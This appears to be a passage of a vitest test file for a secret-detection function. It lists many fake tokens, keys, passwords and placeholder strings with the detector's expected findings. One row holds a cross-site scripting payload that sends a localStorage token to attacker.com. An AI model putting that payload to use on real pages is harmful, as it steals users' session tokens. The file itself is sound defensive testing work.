import { describe, expect, it } from 'vitest';
import { findSecrets } from '@handoff/core/secrets';
import { fake, pem } from './fixtures.js';
import { describeRows, type Row } from './table.js';

/** A made-up id of 27 letters and digits, as online documents' ids are. */
const DOC_ID = 'Xk29fLq84TzwQ7pLmN2bVc5RtYu';

const f = fake;
const rows: Row[] = [
  // Provider tokens, bare in prose and in code.
  { text: `token «${f.github}» here`, found: ['github-token'] },
  { text: `«${f.githubOauth}»`, found: ['github-token'] },
  { text: `use «${f.githubPat}» for the API`, found: ['github-token'] },
  { text: `GH_TOKEN=«${f.github}»`, found: ['github-token'] },
  { text: `GITLAB_TOKEN: «${f.gitlab}»`, found: ['gitlab-token'] },
  { text: `bot «${f.slack}» posts`, found: ['slack-token'] },
  { text: `«${f.slackApp}»`, found: ['slack-token'] },
  { text: `The key is «${f.stripeLive}».`, found: ['stripe-key'] },
  { text: `(«${f.stripeTest}»)`, found: ['stripe-key'] },
  { text: `«${f.stripeRestricted}»`, found: ['stripe-key'] },
  { text: `webhook «${f.stripeWebhook}»`, found: ['stripe-key'] },
  { text: `export STRIPE_SECRET_KEY=«${f.stripeLive}»`, found: ['stripe-key'] },
  { text: `//registry.npmjs.org/:_authToken=«${f.npm}»`, found: ['npm-token'] },
  { text: `OPENAI_API_KEY=«${f.openai}»`, found: ['openai-key'] },
  { text: `key «${f.openaiProject}» rotated`, found: ['openai-key'] },
  { text: `«${f.anthropic}»`, found: ['anthropic-key'] },
  { text: `ANTHROPIC_API_KEY="«${f.anthropic}»"`, found: ['anthropic-key'] },
  { text: `maps key «${f.google}»`, found: ['google-api-key'] },
  { text: `«${f.aws}»`, found: ['aws-access-key-id'] },
  { text: `aws_access_key_id = «${f.awsSession}»`, found: ['aws-access-key-id'] },
  { text: 'the AWS docs key «AKIAIOSFODNN7EXAMPLE» is refused too', found: ['aws-access-key-id'] },
  { text: `cookie «${f.jwt}»`, found: ['jwt'] },
  { text: `«${f.jwt}».`, found: ['jwt'] },
  { text: `Authorization: Bearer «${f.bearer}»`, found: ['bearer-token'] },
  { text: `curl -H "Authorization: Bearer «${f.jwt}»"`, found: ['bearer-token'] },
  { text: `-H 'authorization: bearer «${f.bearer}»'`, found: ['bearer-token'] },
  { text: `Authorization: Basic «${f.basic}»`, found: ['basic-auth'] },
  { text: `«${pem()}»`, found: ['private-key'] },
  { text: `key:\n«${pem('OPENSSH PRIVATE KEY')}»\nafter`, found: ['private-key'] },
  { text: `«${pem('EC PRIVATE KEY')}»`, found: ['private-key'] },
  { text: `«${pem('PRIVATE KEY')}»`, found: ['private-key'] },
  { text: `«${pem('ENCRYPTED PRIVATE KEY')}»`, found: ['private-key'] },
  { text: `«${pem('PGP PRIVATE KEY BLOCK')}»`, found: ['private-key'] },
  { text: 'the file starts with -----BEGIN RSA PRIVATE KEY----- and', found: [] },
  { text: `«-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEA'.repeat(4)}»\n\nTruncated.`, found: ['private-key'] },
  // URLs with a password.
  { text: 'postgres://user:«pw»@localhost/db', found: ['url-password'] },
  { text: 'DATABASE_URL=postgres://app:«s3cr3t-Pass»@db:5432/app', found: ['url-password'] },
  { text: 'redis://:«hunter22»@cache:6379', found: ['url-password'] },
  { text: 'clone https://bot:«Zq9!x»@github.com/org/repo.git', found: ['url-password'] },
  { text: 'amqp://guest:«guest»@localhost', found: ['url-password'] },
  { text: '<https://u:«p%40ss»@example.org>', found: ['url-password'] },
  // An interpolation is one piece of the user: the `:` of its default opens no password (the forty-eighth sample).
  { text: 'DATABASE_URL: postgresql://${PGUSER:-aida}:${PGPASSWORD}@db:5432/${PGDB:-aida}', found: [] },
  { text: 'postgresql://${PGUSER:-aida}:«Zx81kq02LmQa»@db.prod.internal:5432/aida', found: ['url-password'] },
  // Assignments to secret-ish names, in any case and quoting.
  { text: 'password=«hunter22abc»', found: ['assigned-secret'] },
  { text: 'PASSWORD=«hunter22abc»', found: ['assigned-secret'] },
  { text: 'Password: «Summer2024!»', found: ['assigned-secret'] },
  { text: 'api_key: "«q7Wm2Rx9Lk4T»"', found: ['assigned-secret'] },
  { text: "apiKey: '«q7Wm2Rx9Lk4T»'", found: ['assigned-secret'] },
  { text: 'const apiKey = "«q7Wm2Rx9Lk4T»";', found: ['assigned-secret'] },
  { text: '"client_secret": "«x9.y=z%a$b»"', found: ['assigned-secret'] },
  { text: 'DB_PASS=«Tr0ub4dor.3»', found: ['assigned-secret'] },
  { text: 'db_pwd = «Tr0ub4dor.3»', found: ['assigned-secret'] },
  { text: 'export JWT_SECRET=«c0rrect-h0rse-battery»', found: ['assigned-secret'] },
  { text: 'SECRET_KEY = "«django-insecure-8f#k2!x»"', found: ['assigned-secret'] },
  { text: 'clientSecret := "«Zx81-Qw99-Lp00»"', found: ['assigned-secret'] },
  { text: "'token' => '«Hq4Rt8Wm2Zk6»',", found: ['assigned-secret'] },
  { text: 'X-Api-Key: «9f8e7d6c5b4a»', found: ['assigned-secret'] },
  { text: 'spring.datasource.password=«Pa55w0rd=1%»', found: ['assigned-secret'] },
  { text: 'mysql --password=«Pa55w0rd123» -u root', found: ['assigned-secret'] },
  { text: 'https://api.example.com/v1?access_token=«q7Wm2Rx9Lk4TzP5»&page=2', found: ['assigned-secret'] },
  { text: '    password: «hunter22abc»  # staging', found: ['assigned-secret'] },
  { text: '{ "password": "«hunter22abc»", "user": "admin" }', found: ['assigned-secret'] },
  { text: 'Use `password=«hunter22abc»` to log in', found: ['assigned-secret'] },
  { text: 'credentials: «u1:p2:q3:r4»', found: ['assigned-secret'] },
  { text: 'PASSPHRASE=«open-sesame-42»', found: ['assigned-secret'] },
  { text: 'AUTH_TOKEN="«8264019375»"', found: ['assigned-secret'] },
  // Digits that count up are typed filler (since session 29).
  { text: 'AUTH_TOKEN="1234567890"', found: [] },
  { text: 'Authorization: «Zm9vOmJhcg-token-7»', found: ['assigned-secret'] },
  { text: 'db_password =   «Tr0ub4dor.3»', found: ['assigned-secret'] },
  { text: 'PASSWORD=«pässwort-2024»', found: ['assigned-secret'] },
  // Several on one line, and positions on later lines (LF, CRLF, CR).
  { text: `a=1\nb=2\n  TOKEN=«${f.github}»`, found: ['github-token'] },
  { text: `line one\r\nline two «${f.aws}»`, found: ['aws-access-key-id'] },
  { text: `line one\rline two «${f.npm}»`, found: ['npm-token'] },
  { text: `«${f.github}» and «${f.aws}»`, found: ['github-token', 'aws-access-key-id'] },
  { text: 'password: "«q7Wm2Rx9Lk4T»", token: "«Zp5Ne8Vb3Xc6»"', found: ['assigned-secret', 'assigned-secret'] },
  {
    text: '```env\nDB_PASSWORD=«s3cr3tP@ss»\nAPI_KEY=«k3y-9f8e7d6c»\n```',
    found: ['assigned-secret', 'assigned-secret'],
  },

  // Names alone, references and placeholders pass.
  { text: 'reads STRIPE_SECRET_KEY from the environment', found: [] },
  { text: 'reads SMTP_PASSWORD and STRIPE_SECRET_KEY from the environment', found: [] },
  { text: 'SMTP_PASSWORD=', found: [] },
  { text: 'SMTP_PASSWORD=\nNEXT=1', found: [] },
  { text: 'token: ${TOKEN}', found: [] },
  { text: 'password: $PASSWORD', found: [] },
  { text: 'GITHUB_TOKEN=${{ secrets.GITHUB_TOKEN }}', found: [] },
  { text: 'password = process.env.DB_PASSWORD', found: [] },
  { text: 'api_key = os.environ["OPENAI_API_KEY"]', found: [] },
  { text: 'secret = os.getenv("APP_SECRET")', found: [] },
  { text: 'token := getenv("TOKEN")', found: [] },
  { text: 'token_env: GITHUB_TOKEN', found: [] },
  { text: 'api_key: <your key>', found: [] },
  { text: 'api_key: "<your-api-key>"', found: [] },
  { text: 'api_key: your-api-key-here', found: [] },
  { text: 'OPENAI_API_KEY=sk-...', found: [] },
  { text: 'password: ***', found: [] },
  { text: 'password: "********"', found: [] },
  { text: 'token=xxxxxxxxxxxxxxxx', found: [] },
  { text: 'password=changeme', found: [] },
  { text: 'password=[REDACTED]', found: [] },
  { text: 'password: REDACTED', found: [] },
  { text: 'token: null', found: [] },
  { text: 'password: None', found: [] },
  { text: 'secret: true', found: [] },
  { text: 'password: required', found: [] },
  { text: 'auth: disabled', found: [] },
  { text: 'password: %DB_PASSWORD%', found: [] },
  { text: 'password: {{ db_password }}', found: [] },
  { text: 'password_file: /run/secrets/db_password', found: [] },
  { text: 'password: /run/secrets/db_password', found: [] },
  { text: 'credentials: ~/.aws/credentials', found: [] },
  { text: 'api_key: creds.json', found: [] },
  { text: 'token = abc', found: [] },
  { text: 'password: hunter2', found: [] },
  { text: 'postgres://user:${DB_PASSWORD}@db/app', found: [] },
  { text: 'postgres://user:<password>@db/app', found: [] },
  { text: 'postgres://user:***@db/app', found: [] },
  { text: 'postgres://user:[REDACTED]@db/app', found: [] },
  { text: 'https://example.com:8443/path', found: [] },
  { text: 'ssh://git@github.com/org/repo', found: [] },
  { text: `${'ghp_'}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`, found: [] },
  { text: 'sk_live_************************', found: [] },
  { text: 'Bearer <token>', found: [] },
  { text: 'Authorization: Bearer $TOKEN', found: [] },
  { text: 'Authorization: Bearer ${TOKEN}', found: [] },
  // A bearer token that names itself a stand-in (the eighty-seventh sample's CORS test page, session 30).
  { text: "        'Authorization': 'Bearer test-token-12345'", found: [] },
  { text: "        'Authorization': 'Bearer «test-Xk29fLq84TzwQ7pL»'", found: ['bearer-token'] },
  // A JSON Web Token's header before words: a test's forged token (the eighty-seventh sample's plan, session 30).
  { text: '    bad = "Bearer eyJhbGciOiJIUzI1NiJ9.tampered.signature"', found: [] },
  { text: 'Authorization: Bearer «eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.Xk29fLq84TzwQ7pL»', found: ['bearer-token'] },
  // Ordinary prose of plans and summaries.
  { text: 'the token is passed in the header', found: [] },
  { text: 'password reset flow', found: [] },
  { text: 'We use sk-learn for the baseline.', found: [] },
  { text: 'tokens: 1200', found: [] },
  { text: 'max_tokens=4096', found: [] },
  { text: 'Token: passed in the Authorization header', found: [] },
  { text: 'Password: the user enters it twice', found: [] },
  { text: 'Secret: we never store it. Why: compliance.', found: [] },
  { text: 'API key: stored in Vault', found: [] },
  { text: 'Key: the cache key is the file hash', found: [] },
  { text: 'cache_key = "user:" + id', found: [] },
  { text: 'primary_key: id', found: [] },
  { text: 'monkey=banana1234', found: [] },
  { text: 'bypass=abcdef123456', found: [] },
  { text: 'PWD=/home/dev/project', found: [] },
  { text: 'oauth: github-app-2024', found: [] },
  { text: 'Bearer tokens are validated by the gateway.', found: [] },
  { text: 'Basic authentication is disabled.', found: [] },
  { text: 'a basic example of the flow', found: [] },
  { text: 'eyJ-prefixed strings are base64 JSON', found: [] },
  { text: 'eyebrow.eyelash.eyeliner-names-everywhere', found: [] },
  { text: 'the risk-assessment task-runner uses disk-io', found: [] },
  { text: 'Token::new(kind)', found: [] },
  { text: 'if password == "hunter22abc" {', found: [] },
  { text: 'the ASIA region and AKIA prefix are documented', found: [] },
  { text: 'secret_name = "prod/db/credentials"', found: [] },
  { text: 'token_url: https://auth.example.com/token', found: [] },
  { text: 'TOKEN_TTL=3600', found: [] },
  { text: '- D-1: Rotate the GitHub token monthly. Why: policy. Source: REQ-4.', found: [] },
  { text: '---\ndecisions_schema: v1\nkind: plan\n---\n## Plan Decisions', found: [] },
  // A name inside a string whose quote closes after the colon: a message, and code after it.
  { text: 'console.error("FAIL: missing required token:",t);process.exit(1)}}if(s.includes("ip")){x()}', found: [] },
  { text: 'if(!s.includes(t))fail("missing required token: "+t)}if(!/MAX\\s*=\\s*100/.test(s))fail("MAX")', found: [] },
  { text: 'It\'s the password: "«Xk29fLq84Tzw»"', found: ['assigned-secret'] },
  { text: '"password: «Xk29fLq84Tzw»" is what it printed', found: ['assigned-secret'] },
  // A value that spells out words, one saying it stands in for a test, with or without separators.
  { text: '(CRON_SECRET=plan04probe setsid npx next dev -p 3999 &)', found: [] },
  { text: 'DB_PASSWORD=«plan04prod»', found: ['assigned-secret'] },
  // A count before `token` measures text in tokens.
  { text: 'plus a one-token `max-w-[1100px]` cap on the prose column', found: [] },
  { text: 'per-token pricing: `gpt4o2024`', found: [] },
  { text: 'the api-token `«Xk29fLq84Tzw»`', found: ['assigned-secret'] },
  // `auth` names a method or an outcome where its value is words and small numbers.
  { text: "`Expected {'mgmt_auth': 'rejected_401'}, got {}`", found: [] },
  { text: 'auth: basic_v2', found: [] },
  { text: 'message (guest: "Sign in for more lookups", auth: "Daily limit reached")', found: [] },
  { text: '{"auth": "«Xk29fLq84Tzw»"}', found: ['assigned-secret'] },
  { text: "{'password': '«rejected_401»'}", found: ['assigned-secret'] },
  // In prose a hyphen and a letter open a command-line option, unless what follows reads as generated.
  { text: 'it contains the exact token `-PS443,8443`; never `-sT`', found: [] },
  { text: 'the token `«-Xk29fLq84Tzw»`', found: ['assigned-secret'] },
  // A login given as an e-mail address and its password, a slash between.
  { text: '- Can login with real authentication (admin@bugbase.io / «admin123»)', found: ['login-password'] },
  { text: 'login: ops@corp.io / «Xk29fLq84Tzw»', found: ['login-password'] },
  { text: 'admin@x.io/ «Adm1n2024!»', found: ['login-password'] },
  // Each in a code span of its own (the twenty-fifth whole-repository sample's super-admin login, missed).
  { text: '> LIVE-verify (login `ops@corp.io` / `«qwert0202!»` / code `ABCDEFG`)', found: ['login-password'] },
  { text: 'login `ops@corp.io` / «Xk29fLq84Tzw»', found: ['login-password'] },
  // A domain's last label has a letter, or the domain is an IPv4 address: numbers alone are a package's version
  // (session 35: an MCP server's arguments in a plan).
  { text: '参数 `-y / chrome-devtools-mcp@0.20.3 / --headless`', found: [] },
  { text: 'ssh root@10.0.0.5 / «Xk29fLq84Tzw»', found: ['login-password'] },
  { text: '`ops@corp.io` / `sales@corp.io`', found: [] },
  { text: '`ops@corp.io`/path', found: [] },
  { text: 'login with test@example.com / Adm1n2024 (a documentation domain)', found: [] },
  { text: 'write to support@corp.io / sales@corp.io', found: [] },
  { text: 'user@corp.io / password', found: [] },
  { text: 'Contact: jane@corp.io / Jane Smith', found: [] },
  { text: 'see a@b.co / 2024-05-01', found: [] },
  { text: 'https://user@corp.io/abcdef12345', found: [] },
  { text: 'john@corp.io/path/to/x', found: [] },
  // In a sentence the word names a secret standing alone or joined to its qualifier, not as the end of another word.
  { text: '- "D-50: tiktoken cl100k_base used for token counting in fallback"', found: [] },
  { text: 'the API token «Xk29fLq84Tzw» was rotated', found: ['assigned-secret'] },
  { text: 'set apiToken «Xk29fLq84Tzw» in the vault', found: ['assigned-secret'] },
  // In a script written without spaces the sentence goes on after the word.
  { text: '<!-- globals.css 现有 token 清单（globals.css:11-31），仅可引用 NOT 新增 -->', found: [] },
  { text: '**验证点 F：DESIGN.md token 视觉走查**（D-08 + DESIGN.md 硬约束）', found: [] },
  // A secret manager's name and version is a reference (Google Cloud's `--set-secrets`).
  { text: '      --set-secrets=TICK_BRAIN_API_KEY=klaus-tick-brain-api-key:latest \\', found: [] },
  { text: 'append `TICK_BRAIN_FALLBACK_API_KEY=klaus-gemini-key:latest`', found: [] },
  { text: 'API_KEY=«Xk29fLq84Tzw:3»', found: ['assigned-secret'] },
  // In prose, words and small numbers joined by `+` name things.
  { text: '- valid-token enqueue+202 (test)', found: [] },
  { text: 'the token «abc+Xk29fLq84Tzw9»', found: ['assigned-secret'] },
  // Emphasis that opens before the name and closes after the value is Markdown's.
  { text: '- **Auth = dev-token** (no login): `web/.env.local`', found: [] },
  { text: '**Password = «Xk29fLq84Tzw»**', found: ['assigned-secret'] },
  { text: 'DB_PASSWORD=«hunter2**»', found: ['assigned-secret'] },
  // Or opens earlier on the line, before the name, and is still open there (session 36).
  { text: '6. Play Console → App integrity → **App Signing key SHA-1/SHA-256** → **Firebase**', found: [] },
  { text: '→ **App Signing key «Xk29fLq84Tzw»** → x', found: ['assigned-secret'] },
  { text: '**Note** the signing key «Xk29fLq84Tzw**»', found: ['assigned-secret'] },
  // An e-mail address names the account a secret is given to, not the secret (session 36).
  { text: 'Granted the token to `catalog-agent@mybroworld-catalog-260501.iam.gserviceaccount.com`.', found: [] },
  { text: 'password to «Xk29fLq84Tzw7Qp@2024» now', found: ['assigned-secret'] },
  // In prose, two names joined by a slash are a path or a repository's name.
  { text: '- **INC-001:** an agent pushed a prod DB password to Azi023/Mimik_Suite', found: [] },
  { text: 'password to «aB3dE5gH7jK9mN1pQ/x»', found: ['assigned-secret'] },
  // Camel humps run together are words too: `TestPass123` names itself a test value.
  { text: 'DB_PASSWORD=TestPass123', found: [] },
  { text: 'DB_PASSWORD=«SummerRain2024»', found: ['assigned-secret'] },
  // The symbols a password policy asks for end a stand-in's words (the thirty-fourth sample's end-to-end test users).
  { text: 'CYPRESS_ADMIN_PASSWORD=TestAdmin123!', found: [] },
  { text: '- password: `WrongPassword1!`', found: [] },
  { text: 'ADMIN_PASSWORD=password123!@', found: [] },
  { text: 'ADMIN_PASSWORD=«SummerRain2024!»', found: ['assigned-secret'] },
  { text: 'ADMIN_PASSWORD=«Xk29fLq84Tzw!»', found: ['assigned-secret'] },
  // Stand-in words written together are the words (the fiftieth sample's end-to-end helper's fallback).
  { text: 'const password = process.env.E2E_TEST_PASSWORD ?? "testpassword123";', found: [] },
  { text: 'DB_PASSWORD=demosecretkey', found: [] },
  { text: 'DB_PASSWORD=«testpasswordx123»', found: ['assigned-secret'] },
  { text: 'DB_PASSWORD=«summerrain123»', found: ['assigned-secret'] },
  // A YAML anchor's or alias's mark opens a reference only unquoted; in quotes it is the value's first character.
  { text: 'CLERK_TEST_USER_PASSWORD="«&Xk29fLq#84Tzw»"', found: ['assigned-secret'] },
  { text: '  password: &db_password Xk29fLq84Tzw', found: [] },
  { text: '  password: *db_password_anchor', found: [] },
  { text: 'DB_PASSWORD="**********"', found: [] },
  // A JSON Web Token's header alone names an algorithm: no claim, no signature (the forty-first sample's redaction
  // tests); a typed filler may follow a provider's prefix in capitals glued to it.
  { text: 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9', found: [] },
  { text: "    ('Bearer eyJhbGciOiJIUzI1NiJ9.xxx', 'Bearer ***'),", found: [] },
  { text: 'Authorization: Bearer «eyJhbGciOiJIUzI1NiIsInB3ZCI6IlhrMjlmTHE4NFR6dyJ9»', found: ['bearer-token'] },
  { text: 'JWT_SECRET=«eyJhbGciOiJIUzI1NiIsInB3ZCI6IlhrMjlmTHE4NFR6dyJ9»', found: ['assigned-secret'] },
  { text: "    ('ALPACA_API_KEY=PKabc123def456', 'ALPACA_API_KEY=***'),", found: [] },
  { text: 'ALPACA_API_KEY=«PKXk29fLq84Tzw»', found: ['assigned-secret'] },
  // A phrase in quotes right after a name describes it (a diagram's comment) unless a verb states it as the value.
  { text: '        text encrypted_private_key "nullable, wallet embarqué"', found: [] },
  { text: 'the password is "«correct horse battery staple»"', found: ['assigned-secret'] },
  // A setting written out whose value is a reference, and a constant's member, are code (the forty-third and
  // forty-fourth samples' API notes and plugin configurations).
  { text: '- Auth: key={CENSUS_API_KEY} query param (free, from census.gov)', found: [] },
  { text: '- Auth: wsapikey={WALKSCORE_API_KEY} query param', found: [] },
  { text: '        auth: oauth2Plugin.GOOGLE_CONFIGURATION', found: [] },
  { text: 'API_KEY=«key=Xk29fLq84Tzw»', found: ['assigned-secret'] },
  // A reference's fallback is the value when the reference is unset: a literal written into the file (the forty-fifth
  // sample's plan quoting a script's hard-coded key); a placeholder or nothing as the fallback is none.
  { text: 'API_KEY = os.environ.get("FELO_API_KEY") or "«fk-Xk29fLq84TzwXk29fLq84Tzw»"', found: ['assigned-secret'] },
  { text: 'const apiKey = process.env.API_KEY || "«Xk29fLq84TzwXk29fLq8»";', found: ['assigned-secret'] },
  { text: "    api_key=os.environ.get('OPENAI_API_KEY', '«Xk29fLq84TzwXk29fLq8»'),", found: ['assigned-secret'] },
  { text: 'export TOKEN=${TOKEN:-«Xk29fLq84TzwXk29fLq8»}', found: ['assigned-secret'] },
  { text: 'API_KEY = os.environ.get("FELO_API_KEY") or "your-key-here"', found: [] },
  { text: 'const token = process.env.TOKEN ?? "";', found: [] },
  { text: 'TOKEN=${TOKEN:-}', found: [] },
  { text: 'API_KEY = os.environ.get("K") or None', found: [] },
  // A phrase with a word that names a secret in another language is a label (the forty-fourth sample's sign-in option).
  { text: '  credentials: "E-mail e senha",', found: [] },
  { text: '  credentials: "«Cavalo correto bateria grampo»",', found: ['assigned-secret'] },
  // A passphrase is made of words: numbers and measures are a colour or a size.
  { text: 'changed `--primary` from the electric-blue token `210 100% 56%` to `180 37% 47%`', found: [] },
  // After a preposition's object a verb must state the value.
  { text: '1. `oauth.ts:initOAuth()` exchanges refresh token for access token via `x9POST_oauth2token`', found: [] },
  { text: 'the password for admin is «Xk29fLq84Tzw»', found: ['assigned-secret'] },
  // A call's name may hold hyphens (CSS functions): `linear-gradient(…` is code.
  { text: '  --gradient-auth: linear-gradient(135deg, #F59E0B 0%, #D97706 100%);', found: [] },
  // In code, a bare value must end its clause: words after it make a sentence.
  { text: '- **Auth = ChatGPT/Codex subscription via OAuth** (`openai` provider)', found: [] },
  { text: '- Token gate at 1M tokens (6-decimal Pump.fun token = 1_000_000 * 10^6 raw units)', found: [] },
  { text: 'token = «Xk29fLq84Tzw»  # staging', found: ['assigned-secret'] },
  // The punctuation of scripts written without spaces ends a value.
  { text: '6/6 PASS = GO；5/6 PASS = CONDITIONAL-GO；≤4/6 = NO-GO', found: [] },
  { text: 'DB_PASSWORD=«Xk29fLq84Tzw»。', found: ['assigned-secret'] },
  // Words joined by colons name a thing (`from_env:NAME`, a fingerprint's parts); camel humps are words.
  { text: '            fingerprint="token:google:refresh-failed",', found: [] },
  { text: '    password: from_env:TEST_PASSWORD  # Read from environment variable', found: [] },
  { text: "const PENDING_SUBSCRIPTION_KEY = 'pendingSubscription';", found: [] },
  { text: 'bool get isWaitingForToken => _isWaitingForToken;', found: [] },
  // A name inside a string whose quote closes right after `=` is a URL or a message: code follows.
  { text: `<img src=x onerror="fetch('https://attacker.com?token='+localStorage.getItem('token'))">`, found: [] },
  { text: "fetch('https://x.io/api?token=«Xk29fLq84Tzw»')", found: ['assigned-secret'] },
  // Under \`name:\`, a deeper line that ends with a colon opens a mapping: a key, not the value.
  { text: 'snmp_v3_credentials:\n  "192.168.1.1":\n    username: "quirk-readonly"', found: [] },
  { text: 'password:\n  «Xk29fLq84Tzw»', found: ['assigned-secret'] },
  // Letters or digits that count up are typed filler (`abc123`), after at most a short prefix (`tk_`).
  { text: '# Output: ✓ Uploaded: quarterly_data.pdf → token: tk_abc123', found: [] },
  { text: 'api_key: "abc123def456"', found: [] },
  { text: "new AnthropicAdapter({ type: 'oauth', apiKey: 'oauth_abc123' })", found: [] },
  { text: "new AnthropicAdapter({ type: 'oauth', apiKey: '«oauth_abc124»' })", found: ['assigned-secret'] },
  // A value that opens with a word saying it is not real is the author's mark, before a run of hex digits as well.
  { text: "`share_token='demo3f9a0c2b7e41d58a'` on job `9994b42c`", found: [] },
  { text: "`share_token='«democracy2024»'` on job `9994b42c`", found: ['assigned-secret'] },
  { text: "`share_token='«dem03f9a0c2b7e41d58a»'` on job `9994b42c`", found: ['assigned-secret'] },
  { text: "`share_token='«test3f9a0c2b7e41d58a»'` on job `9994b42c`", found: ['assigned-secret'] },
  { text: 'password: "abcdef123456"', found: [] },
  { text: 'api_key: "«abc123def457»"', found: ['assigned-secret'] },
  { text: 'SUPABASE_SERVICE_ROLE_KEY=abcdefghijklmnopqrstuvwxyz npm run verify:env', found: [] },
  { text: 'SUPABASE_SERVICE_ROLE_KEY=«abcdefghijklmnopqrstuvwxyzq» npm run verify:env', found: ['assigned-secret'] },
  // In code, an identifier of words and small numbers names a thing, quoted or not.
  { text: 'const STORAGE_KEY = "lk_wizard_v1";', found: [] },
  // A value the text also gives as a user's name names that user (session 35: a Cognito user's id).
  {
    text:
      'aws cognito-idp admin-set-user-password \\\n  --username 197ea428-5011-7073-7d0b-b48d03a748d2 \\\n' +
      '  --password <from-secrets-manager> --permanent\n\n' +
      '- Reset user password: `197ea428-5011-7073-7d0b-b48d03a748d2`',
    found: [],
  },
  { text: '- Reset user password: `«Xk29fLq84TzwQ7rB»`', found: ['assigned-secret'] },
  {
    text: 'username: ops-admin-2024\n\n- Reset user password: `«Xk29fLq84TzwQ7rB»`',
    found: ['assigned-secret'],
  },
  // A shell variable spliced between the quotes of a string is a reference (session 35: a migration plan).
  { text: `--secret-string '{"username":"app","password":"'$DB_PASSWORD'"}'`, found: [] },
  { text: `--secret-string '{"username":"app","password":"«'Xk29fLq84Tzw'»"}'`, found: ['assigned-secret'] },
  // A value that spells out its name, and short numbers, says what it stands for (session 35: a mocked response).
  {
    text: "    const mockResponse = {\n      accessToken: 'access-123',\n      refreshToken: 'refresh-456',",
    found: [],
  },
  { text: "    const mockResponse = {\n      accessToken: '«access-12345»',", found: ['assigned-secret'] },
  { text: "    const mockResponse = {\n      accessToken: '«access-Xk29fLq84Tzw»',", found: ['assigned-secret'] },
  { text: '    const mockResponse = {\n      accessToken: «access-Xk29»,', found: ['assigned-secret'] },
  { text: "    const mockResponse = {\n      accessToken: '«access@123!»',", found: ['assigned-secret'] },
  // A slash joins a path's names or a list's steps (session 35: a palette's shades after `hors token :`).
  { text: '- NE PAS wirer les littéraux hors token : `slate-100/200/300/400/600/700`, `sky-50/100`', found: [] },
  { text: 'hors token : `«slate-100/Xk29fLq84Tzw»`', found: ['assigned-secret'] },
  { text: 'const API_KEY = "«Xk29fLq84Tzw»";', found: ['assigned-secret'] },
  // A value an end-to-end test seeds names itself; ten of one character in a row is filler (a vendor's test key).
  { text: 'seeded `turnstileToken: "e2e-token-seeded"` in sessionStorage', found: [] },
  { text: "const TURNSTILE_TEST_SECRET_KEY = '1x0000000000000000000000000000000AA';", found: [] },
  // A value that repeats its name is the variable of that name (the fifty-fourth sample's dictionary of results).
  { text: '    "audit_01_pass": audit_01_pass,', found: [] },
  { text: '    "audit_01_pass": «audit_01_pass9»,', found: ['assigned-secret'] },
  // An optional index or call is code (the fifty-sixth sample's form code).
  { text: 'password: fieldErrors.password?.[0]', found: [] },
  { text: 'token: session?.user?.token?.()', found: [] },
  // A login given as a user and a password after a label that names a login (the fifty-second sample's summaries).
  { text: '   Login: dthomaz / «xyAB1234!»', found: ['login-password'] },
  { text: '9. Login with: dthomaz / «xyAB1234!»', found: ['login-password'] },
  { text: '**Login:** `dthomaz` / `«xyAB1234!»`', found: ['login-password'] },
  { text: 'Credentials: dthomaz / password', found: [] },
  { text: 'Login page / dashboard: both load', found: [] },
  { text: 'Routes: login / logout / signup', found: [] },
  // OpenRouter's keys, by their prefix, wherever they stand (the fifty-fifth sample's hand-over).
  { text: `- OpenRouter key: \`«sk-or-v1-${'0f3a9c1e7b2d8c64'.repeat(4)}»\``, found: ['openrouter-key'] },
  { text: `sk-or-v1-${'0f3a9c1e7b2d8c64'.repeat(3)}`, found: [] },
  // DeepSeek's and DashScope's keys: `sk-` and 32 lower-case hex digits (the hundred-and-thirty-fifth sample's plan).
  { text: `- Value: \`«sk-${'3f9a0c1b7e2d4a6f'}${'8b0c2e4d6a8f0b1c'}»\``, found: ['openai-key'] },
  { text: 'OPENAI_API_KEY=sk-0123456789abcdef0123456789abcdef', found: [] },
  { text: `sk-${'3f9a0c1b7e2d4a6f'}`, found: [] },
  // Tavily's keys, by their prefix, with the environment the console names or none (the sixty-first sample's summary).
  { text: `- **Tavily (app)**: \`«tvly-dev-Q3zT7x-${'A1b2C3d4E5f6G7h8'.repeat(2)}Kp»\``, found: ['tavily-key'] },
  { text: `TAVILY_API_KEY=«tvly-${'A1b2C3d4E5f6G7h8'.repeat(2)}»`, found: ['tavily-key'] },
  // A prefix with words after it names the key's kind, not a key.
  { text: 'Use a `tvly-dev-your-key-goes-here-for-testing` key while you develop.', found: [] },
  // A label, then the value alone in a fenced block (the sixty-seventh sample's hand-over); a command there is code.
  { text: `**Registry Token:**\n\`\`\`\n«${'Qx7k2Lp9Zr4Tw8Nc'.repeat(4)}»\n\`\`\`\n`, found: ['assigned-secret'] },
  { text: '**Registry Token:**\n```\nnpm run build\n```\n', found: [] },
  { text: '**Password:**\n```\nchangeme\n```\n', found: [] },
  { text: '**API key:**\n```bash\nexport API_KEY=$OPENAI_API_KEY\n```\n', found: [] },
  // An encrypted token (JWE: five parts) as a signed one (the sixty-fifth sample's hand-over); a dotted name is none.
  {
    text:
      'Then paste «eyJraWQiOiJhYmMiLCJlbmMiOiJBMjU2R0NNIn0.' +
      `${'Qx7k2Lp9'.repeat(6)}.${'Zr4Tw8Nc'.repeat(2)}.${'Hq3Vm5Jd'.repeat(20)}.${'Pb6Ys1Kf'.repeat(2)}` +
      '» into the console.',
    found: ['jwt'],
  },
  { text: 'import eyJhbGciOiJIUzI1.config.module.settings.value', found: [] },
  // A parser's token is text that failed to parse (the fifty-ninth sample's summaries); an auth token's error is not.
  { text: `> "Syntax error: unexpected token: 'current 500mA'"`, found: [] },
  { text: 'Users reported "Syntax error: unexpected token: \'current 500mA\'" because …', found: [] },
  { text: "Error: expired token: '«Xk29fLq84TzwQ7»'", found: ['assigned-secret'] },
  // A key's ID in prose is a few hex digits (the fifty-eighth sample's hand-over); a secret in hex is longer.
  { text: '— dedicated agency signing key `ABF5AFD8` (private key kept in the keychain)', found: [] },
  { text: 'The signing key 4AEE18F83AFDEB23 signs each release.', found: [] },
  { text: `The signing key «${'9f86d081884c7d65'.repeat(2)}» signs each release.`, found: ['assigned-secret'] },
  // A user and a password as one value: the part after the slash is the password (the fifty-seventh sample's plan).
  { text: '   - Environment: `NEO4J_AUTH=neo4j/password` (matches config defaults)', found: [] },
  { text: 'NEO4J_AUTH=neo4j/changeme', found: [] },
